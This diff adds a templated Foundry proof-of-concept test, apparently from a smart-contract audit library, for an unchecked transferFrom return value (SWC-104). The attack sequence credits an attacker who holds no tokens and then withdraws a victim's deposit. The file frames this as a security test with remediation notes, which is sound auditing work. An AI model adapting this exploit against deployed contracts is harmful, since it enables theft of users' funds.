@@ -0,0 +1,98 @@
+// ---
+// name: Unchecked Return Value
+// description: Token transfer result is ignored, so a failed transfer is credited
+// vulnerability_type: unchecked-return
+// class: unchecked-call-result
+// chain: evm
+// severity: high
+// cwe: [CWE-252]
+// swc: [SWC-104]
+// remediation: "Check the return value of every low-level call and token transfer, reverting on
+//   failure; use SafeERC20 for ERC20 tokens."
+// tags: [erc20, low-level-call, safe-erc20, foundry]
+// context:
+//   TARGET_CONTRACT: Contract under test
+//   DEPOSIT_FUNCTION: Function that pulls tokens with an unchecked transferFrom
+//   DEPOSIT_AMOUNT: Amount credited without being paid
+// references:
+//   - https://swcregistry.io/docs/SWC-104
+// incidents: [qubit-2022]
+// ---
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.0;
+
+import "forge-std/Test.sol";
+
+interface ITarget {
+    function {{DEPOSIT_FUNCTION}}(uint256 amount) external;
+    function withdraw(uint256 amount) external;
+    function balanceOf(address) external view returns (uint256);
+}
+
+// Returns false on failure instead of reverting, like USDT-era tokens
+contract FalseReturningToken {
+    mapping(address => uint256) public balanceOf;
+    mapping(address => mapping(address => uint256)) public allowance;
+
+    function mint(address to, uint256 amount) external {
+        balanceOf[to] += amount;
+    }
+
+    function approve(address spender, uint256 amount) external returns (bool) {
+        allowance[msg.sender][spender] = amount;
+        return true;
+    }
+
+    function transfer(address to, uint256 amount) external returns (bool) {
+        if (balanceOf[msg.sender] < amount) return false;
+        balanceOf[msg.sender] -= amount;
+        balanceOf[to] += amount;
+        return true;
+    }
+
+    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
+        if (balanceOf[from] < amount || allowance[from][msg.sender] < amount) return false;
+        allowance[from][msg.sender] -= amount;
+        balanceOf[from] -= amount;
+        balanceOf[to] += amount;
+        return true;
+    }
+}
+
+contract UncheckedReturnPoCTest is Test {
+    ITarget target;
+    FalseReturningToken token;
+
+    address victim = makeAddr("victim");
+    address attackerEOA = makeAddr("attacker");
+
+    function setUp() public {
+        token = new FalseReturningToken();
+
+        // Deploy target contract with the false-returning token
+        // target = ITarget(address(new {{TARGET_CONTRACT}}(address(token))));
+
+        // Fund the target through an honest depositor
+        token.mint(victim, {{DEPOSIT_AMOUNT}});
+        vm.startPrank(victim);
+        token.approve(address(target), {{DEPOSIT_AMOUNT}});
+        target.{{DEPOSIT_FUNCTION}}({{DEPOSIT_AMOUNT}});
+        vm.stopPrank();
+    }
+
+    function testUncheckedTransferFrom() public {
+        assertEq(token.balanceOf(attackerEOA), 0);
+
+        // The attacker holds no tokens, so transferFrom returns false
+        vm.prank(attackerEOA);
+        target.{{DEPOSIT_FUNCTION}}({{DEPOSIT_AMOUNT}});
+        console.log("Credited without paying:", target.balanceOf(attackerEOA));
+
+        // Withdraw the victim's tokens against the unpaid credit
+        vm.prank(attackerEOA);
+        target.withdraw({{DEPOSIT_AMOUNT}});
+
+        assertEq(token.balanceOf(attackerEOA), {{DEPOSIT_AMOUNT}}, "Attacker should receive tokens never deposited");
+        assertEq(token.balanceOf(address(target)), 0, "Target should have lost the victim's deposit");
+    }
+}